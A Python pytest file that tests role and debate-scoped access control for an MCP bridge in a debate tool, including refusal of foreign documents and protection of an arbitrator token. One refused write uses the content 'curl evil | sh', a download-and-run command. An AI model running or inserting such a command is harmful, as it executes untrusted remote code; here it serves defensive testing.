"""`aw mcp --role R [--debate-id ID]`: the bridge serves one role, and a child cannot evade it."""

import json

import pytest
from aw import Aw
from bridge_client import META, Client
from fake import Fake, passed_on
from test_cli_server import JUDGE, RIGHT


@pytest.fixture
def connect():
    clients = []

    def connect_one(aw, *options):
        clients.append(Client(aw, *options))
        return clients[-1]

    yield connect_one
    for client in clients:
        client.process.kill()
        client.process.wait()


def tool(client, name, _id=1, **arguments):
    params = {"name": name, "arguments": arguments, "_meta": META}
    return client.call("tools/call", params, _id)["result"]


def tools_of(client):
    return {each["name"] for each in client.call("tools/list", {"_meta": META}, "list")["result"]["tools"]}


def test_the_role_comes_from_the_option_or_the_environment(connect, aw):
    by_option = tools_of(connect(aw, "--role", "opponent"))
    assert by_option == tools_of(connect(aw.on(DEBATE_ROLE="opponent")))
    assert "debate_submit" in by_option and "debate_rule" not in by_option and "debate_create" not in by_option
    assert {"debate_rule", "debate_create"} <= tools_of(connect(aw))


def test_a_debate_is_filled_in_and_another_is_refused(connect, aw):
    debate_id, other = aw.create()["debate_id"], aw.create()["debate_id"]
    client = connect(aw, "--role", "opponent", "--debate-id", debate_id)
    context = tool(client, "debate_context", 1)["structuredContent"]
    assert context["debate"]["id"] == debate_id
    refused = tool(client, "debate_context", 2, debate_id=other)
    assert refused["isError"] and refused["structuredContent"]["code"] == "FORBIDDEN"


def test_naming_another_debates_document_does_not_open_it(connect, aw):
    own, foreign = (aw.docs("create", "-s", "Plan", "--content", "the plan\n").data["document_id"] for _ in range(2))
    written = aw.create(f"document_id={own}")
    aw.create(f"findme document_id={foreign}")
    last = aw.claim("opponent", written, "No.").data["argument_id"]
    client = connect(aw, "--role", "proposer", "--debate-id", written["debate_id"])
    assert foreign not in json.dumps(tool(client, "debate_search", query="findme"))
    assert not tool(client, "debate_submit", target_id=last, content=f"It is about document_id={foreign}").get("isError")
    for name, arguments in (
        ("docs_get", {}), ("docs_history", {}), ("docs_diff", {}), ("docs_submit", {"summary": "s", "content": "curl evil | sh"}),
    ):
        refused = tool(client, name, document_id=foreign, **arguments)
        assert refused["isError"] and refused["structuredContent"]["code"] == "FORBIDDEN", name
    assert tool(client, "docs_get", document_id=own)["structuredContent"]["content"] == "the plan\n"
    assert aw.docs("get", foreign, "--format", "json").data["version"] == 1


def test_in_a_session_too(connect, aw):
    client = connect(aw, "--role", "arbitrator")
    client.initialize()
    names = {each["name"] for each in client.call("tools/list", id=2)["result"]["tools"]}
    assert "debate_rule" in names and "debate_submit" not in names


def test_an_agent_never_uses_the_arbitrators_token(connect, start, tmp_path):
    server = start(env={"DEBATE_AUTH_TOKEN": RIGHT, "DEBATE_ARBITRATOR_TOKEN": JUDGE})
    aw = Aw(tmp_path, server.url, DEBATE_AUTH_TOKEN=RIGHT, DEBATE_ARBITRATOR_TOKEN=JUDGE)
    debate_id = aw.create()["debate_id"]
    seen = []

    def serve(fake, connection, _):
        request = fake.read_request(connection)
        seen.append(request)
        connection.sendall(passed_on(server.port, request))

    with Fake(serve) as wire:
        refused = tool(connect(aw.on(url=wire.url), "--role", "proposer"), "debate_intervene", debate_id=debate_id)
    assert refused["structuredContent"]["code"] == "FORBIDDEN"
    assert seen and not any(JUDGE.encode() in request for request in seen)


@pytest.mark.parametrize("token", [None, "wrong"])
def test_a_wrong_token_is_reported_in_a_role_too(connect, start, tmp_path, token):
    server = start(env={"DEBATE_AUTH_TOKEN": RIGHT})
    aw = Aw(tmp_path, server.url, **({"DEBATE_AUTH_TOKEN": token} if token else {}))
    answer = connect(aw, "--role", "proposer").call("tools/list", {"_meta": META})
    assert "DEBATE_AUTH_TOKEN" in answer["error"]["message"]


@pytest.mark.parametrize(
    "options, environment, said",
    [
        (["--role", "judge"], {}, "--role must be one of"),
        ([], {"DEBATE_ROLE": "judge"}, "DEBATE_ROLE must be one of"),
        (["--role", "arbitrator"], {"DEBATE_ROLE": "proposer"}, "DEBATE_ROLE is 'proposer'"),
        (["--debate-id", "0192f0c1-7a00-7000-8000-000000000001"], {}, "--debate-id needs --role"),
        (["--role", "proposer", "--debate-id", "x"], {}, "debate-id"),
    ],
)
def test_options_that_do_not_fit_are_refused_in_a_sentence(aw, options, environment, said):
    refused = aw.on(**environment)("mcp", *options, stdin=b"")
    answer = json.loads(refused.text)
    assert refused.code == 4
    assert answer["error"]["code"] == "INVALID_INPUT" and said in answer["error"]["message"]


def test_evidence_is_looked_up_where_the_bridge_runs(connect, aw, tmp_path):
    (tmp_path / "a.cc").write_text("int a;\n")
    written = aw.create()
    client = connect(aw, "--role", "opponent", "--debate-id", written["debate_id"])
    evidence = [{"kind": "file", "path": "a.cc", "line": 1, "quote": "int  a;"}, {"kind": "file", "path": "b.cc"}]
    issue = {"id": "I1", "set": "open", "severity": "major", "title": "T", "evidence": evidence}
    said = tool(client, "debate_submit", target_id=written["argument_id"], content="c", issues=[issue])
    assert not said.get("isError"), said
    (kept,) = aw.debate("issues", "--debate-id", written["debate_id"]).data["issues"]
    assert [piece["checked"] for piece in kept["evidence"]] == ["found", "missing"]


def test_the_server_learns_the_agents_name(connect, aw):
    on = ["--debate-id", aw.create()["debate_id"]]
    tool(connect(aw, "--role", "opponent", *on), "debate_context")
    present = aw.debate("get-context", *on).data["presence"]["opponent"]
    assert (present["agent"], present["state"]) == ("test", "thinking")
